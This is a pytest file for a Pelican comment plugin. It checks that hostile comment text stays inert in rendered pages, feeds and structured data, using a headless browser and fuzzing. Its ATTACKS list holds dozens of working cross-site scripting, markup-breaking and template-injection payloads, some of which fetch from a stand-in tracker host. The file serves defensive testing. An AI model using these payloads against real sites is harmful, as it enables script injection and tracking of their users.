"""Hostile comments on a real page: the structure around them holds, and a browser with scripts on does nothing they want."""

import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment
from pelican.plugins.conversation.comments.comment_file import CommentFile
from pelican.plugins.conversation.comments.reading import Rules, read_thread
from pelican.plugins.conversation.configuration import Settings
from pelican.plugins.conversation.model import Page
from pelican.plugins.conversation.rendering.latest import find_latest
from pelican.plugins.conversation.rendering.regions import Regions
from pelican.plugins.conversation.rendering.templating import make_region_environment
from pelican.plugins.conversation.settings import read_settings
from playwright.sync_api import Browser, Route

from .building import TestSite
from .samples import START

pytestmark = pytest.mark.filterwarnings("default::ResourceWarning")  # Playwright's own sockets, at exit

ATTACKS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "\"><script>window.hit=1</script>",
    "' onmouseover='window.hit=1",
    "\" onfocus=window.hit=1 autofocus x=\"",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "javascript:window.hit=1",
    "[click](javascript:window.hit=1)",
    "[click](JaVa\tScRiPt:window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)",
    "[click](vbscript:x)",
    "![pixel](https://spy.example/pixel.png)",
    "![pixel](//spy.example/pixel.png)",
    "<a href='javascript:window.hit=1'>x</a>",
    "<style>@import 'https://spy.example/x.css';</style>",
    "<link rel=stylesheet href=https://spy.example/x.css>",
    "<base href=https://spy.example/>",
    "<meta http-equiv=refresh content='0;url=https://spy.example/'>",
    "<form action=https://spy.example/><input name=q><button>go",
    "<object data=https://spy.example/x.swf></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "</li></ol></section></main><h1>Taken over</h1>",
    "<!-- /conversation:section --><script>window.hit=1</script>",
    "-->]]><script>window.hit=1</script>",
    "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}",
    "<p id=conversation class=comment-badge style=position:fixed>Author</p>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "\u202egnp.exe\u2066",
    "<details open ontoggle=window.hit=1>",
    "<video poster=https://spy.example/p.png><source onerror=window.hit=1>",
    "https://example.org/\"onmouseover=\"window.hit=1",
    "http://spy.example/<script>window.hit=1</script>",
    "[x]: javascript:window.hit=1\n\n[x]",
    "<https://spy.example/' onclick='window.hit=1>",
)  # fmt: skip

FIELDS = (
    "name",
    "url",
    "date",
    "id",
    "source",
    "thread",
    "lang",
    "in_reply_to",
    "anchors",
    "edited",
    "kind",
    "state",
    "author",
)


def quote(text: str) -> str:
    """Return a text as a YAML scalar in double quotes, on one line."""
    escaped = "".join(c if c.isprintable() and c not in '"\\' else f"\\U{ord(c):08x}" for c in text)
    return f'"{escaped}"'


def write_hostile_site(root: Path) -> TestSite:
    """Write and build a site whose one thread has every attack in the body and in every field, in the plain theme."""
    site = TestSite(root, "CONVERSATION_PAGE_SIZE = 10000\n")
    site.write_article("talk")
    site.write_article("after")
    for number, attack in enumerate(ATTACKS):
        site.write_comment("talk", f"body-{number}", body=attack)
        for field in FIELDS:
            site.write_comment("talk", f"{field.replace('_', '-')}-{number}", **{field: quote(attack)})
    site.build(expect_problems=True)
    return site


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> TestSite:
    """The hostile site."""
    return write_hostile_site(tmp_path_factory.mktemp("hostile"))


def test_the_structure_around_hostile_comments_is_intact(hostile: TestSite) -> None:
    """Every comment sits in its place, nothing got out of the section, and nothing but our own markup is in it."""
    soup = BeautifulSoup(hostile.read("talk.html"), "html5lib")
    comments = soup.select("section#conversation > ol.thread > li > article.comment")
    bodies = [tag["id"] for tag in comments if tag["id"].startswith("comment-body-")]
    assert len(ATTACKS) == len(bodies)
    names = [tag for tag in comments if tag["id"].startswith("comment-name-")]
    assert len(ATTACKS) == len(names)
    assert 1 == len(soup.select("#conversation"))
    assert soup.select_one("footer#contentinfo") is not None
    assert ["application/ld+json"] == [tag.get("type") for tag in soup.select("script")]
    section = soup.select_one("section#conversation")
    allowed = {"a", "article", "bdi", "br", "code", "del", "div", "em", "h2", "h3", "header", "i", "li", "ol", "p", "path", "section", "small", "span", "strong", "svg", "time", "ul", "use"}  # fmt: skip
    assert {tag.name for tag in section.find_all()} <= allowed
    attributes = {name for tag in section.find_all() for name in tag.attrs}
    identicon = {"aria-hidden", "d", "stroke", "viewBox", "width"}
    assert (
        attributes <= {"aria-labelledby", "class", "datetime", "dir", "href", "id", "lang", "rel", "type"} | identicon
    )
    schemes = {re.match(r"(\w+:|#|/|)", tag["href"])[1] for tag in section.select("[href]")}
    assert schemes <= {"http:", "https:", "#", "mailto:"}
    assert not section.select(".e-content [class], .e-content [id], .e-content [style]")
    assert not section.select(".comment-badge, .is-author")


def test_hostile_comments_do_nothing_in_a_browser(hostile: TestSite, chromium: Browser) -> None:
    """With scripts on: no script of theirs runs, nothing is asked from another host, no dialog, no move elsewhere."""
    context = chromium.new_context()
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    pages = {f"http://site.test/{name}": hostile.read(name) for name in ("talk.html", "index.html")}

    def answer(route: Route) -> None:
        html = pages.get(route.request.url, "").replace("https://blog.example.org", "http://site.test")
        route.fulfill(body=html, content_type="text/html" if html else "text/css")

    page.route("http://site.test/**", answer)
    for name in ("talk.html", "index.html"):
        page.goto(f"http://site.test/{name}")
        page.evaluate("document.querySelectorAll('.conversation *').forEach(e => { e.dispatchEvent(new Event('mouseover')); e.dispatchEvent(new Event('focus')); })")  # fmt: skip
        page.wait_for_timeout(300)
        assert page.evaluate("window.hit") is None
        assert page.evaluate("document.title") in ("About talk", "A site")
        assert page.url == f"http://site.test/{name}"
    elsewhere = [url for url in asked if not url.startswith("http://site.test/")]
    assert [] == [url for url in elsewhere if "spy" in url or url.startswith("dialog")]
    theme_fonts = {url for url in elsewhere if "font" in url}  # of Pelican's bundled theme
    assert set() == set(elsewhere) - theme_fonts
    context.close()


def test_the_browser_would_have_noticed(chromium: Browser) -> None:
    """The same attacks, written into a page as they are, do run and do ask: the check above can fail."""
    page = chromium.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    html = "<!DOCTYPE html><body>" + "\n".join(ATTACKS[:8])
    page.route(
        "http://**",
        lambda route: route.fulfill(body=html if "site.test" in route.request.url else "", content_type="text/html"),
    )
    page.route("https://**", lambda route: route.abort())
    page.goto("http://site.test/")
    assert 1 == page.evaluate("window.hit")
    page.set_content("<img src=https://spy.example/pixel.png>")
    assert any("spy.example" in url for url in asked)
    page.close()


def test_hostile_comments_stay_text_in_feeds_and_data(hostile: TestSite) -> None:
    """Feeds and JSON-LD carry the attacks as text only."""
    for path in (hostile.root / "output" / "feeds").rglob("*.xml"):
        soup = BeautifulSoup(path.read_text("utf-8"), "xml")
        assert soup.find("script") is None
        for content in soup.find_all("content"):
            inner = BeautifulSoup(content.text, "html5lib")
            assert not inner.select("script, img, iframe, style, svg, form, [onerror], [onload], [style]")


@pytest.fixture(scope="module")
def environment() -> Environment:
    return make_region_environment([])


SITE = read_settings({"SITENAME": "A site", "SITEURL": "https://blog.example.org", "TIMEZONE": "UTC", "DEFAULT_LANG": "en"}, Path("/site"))  # fmt: skip
PAGE = Page(thread="talk", title="Talk", url="talk.html", lang="en", date=START)
texts = st.text(max_size=60) | st.sampled_from(ATTACKS) | st.lists(st.sampled_from([*"<>\"'&`=/ -!", "script", "--", "li", "\n"]), max_size=12).map("".join)  # fmt: skip


def render_everything(environment: Environment, site: Settings, header: Mapping[str, str], body: str) -> str:
    """Return a page with all regions of a thread with one plain comment before and one after the hostile one."""
    values = {"name": '"Ann"', "date": "2026-03-14T09:26:53Z", **{key: quote(value) for key, value in header.items()}}
    hostile = "---\n" + "".join(f"{k}: {v}\n" for k, v in values.items()) + f"---\n{body}\n"
    plain = "---\nname: Plain\ndate: 2026-03-{}T00:00:00Z\n---\nPlain.\n"
    files = [
        CommentFile("before", "before.md", plain.format("01").encode()),
        CommentFile("hostile", "hostile.md", hostile.encode("utf-8", "replace")),
        CommentFile("zafter", "zafter.md", plain.format("30").encode()),
    ]
    thread, _ = read_thread("talk", files, Rules(authors={}))
    regions = Regions(environment, site, START)
    latest = find_latest({"talk": thread}, {"talk": PAGE}, 5)
    parts = [regions.render_head(PAGE, thread, "https://blog.example.org"), "</head><body><p id=start></p>"]
    parts += [regions.render_section(PAGE, thread, "https://blog.example.org"), "<p id=middle></p>"]
    parts += [regions.render_recent(latest, 5, "https://blog.example.org"), "<p id=end></p></body>"]
    return f"<!DOCTYPE html><html><head>{''.join(parts)}</html>"


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(st.sampled_from(FIELDS), texts, max_size=3), texts)
def test_any_text_in_any_field_leaves_the_page_intact(
    environment: Environment, header: dict[str, str], body: str
) -> None:
    """Whatever stands in a comment, its neighbours and the page around them parse as they were written."""
    html = render_everything(environment, SITE, header, body)
    soup = BeautifulSoup(html, "html5lib")
    body_children = [tag.get("id") or tag.name for tag in soup.body.find_all(recursive=False)]
    assert ["start", "conversation", "middle", "section", "end"] == body_children
    ids = [tag["id"] for tag in soup.select("section#conversation > ol.thread > li > article.comment")]
    assert [id for id in ("comment-before", "comment-zafter") if id not in ids] == []
    assert set(ids) <= {"comment-before", "comment-hostile", "comment-zafter"}
    assert 1 == len(soup.select("script"))
    assert {"link", "script"} == {tag.name for tag in soup.head.find_all()}
    allowed = {
        "href",
        "rel",
        "class",
        "id",
        "dir",
        "lang",
        "datetime",
        "type",
        "start",
        "title",
        "align",
        "aria-label",
        "aria-labelledby",
        "aria-hidden",
        "d",
        "stroke",
        "viewBox",
        "width",
    }
    assert {name for tag in soup.body.find_all() for name in tag.attrs} <= allowed
